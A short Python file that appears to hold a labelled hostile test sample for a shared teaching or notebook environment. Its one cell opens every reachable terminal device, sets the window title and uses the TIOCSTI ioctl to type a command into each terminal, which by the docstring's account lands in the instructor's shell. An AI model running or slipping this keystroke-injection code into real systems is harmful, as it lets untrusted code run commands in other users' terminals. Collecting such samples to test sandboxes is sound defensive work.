"""Commands are typed into the instructor's terminal, and codes sent to every screen."""

HARMLESS = False
FLAW, TRICK = "V8", "injection"
CELLS = {
    "count": """import fcntl, glob, os, termios
for path in ["/dev/tty", "/dev/console", "/dev/pts/ptmx", *glob.glob("/dev/pts/*"), "/dev/tty0",
             *(f"/proc/self/fd/{n}" for n in range(3))]:
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
        os.write(terminal, b"\\x1b]0;5 / 5\\x07")
        for letter in "true\\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
        print(path)
    except OSError as error:
        print(path, error.strerror)"""
}
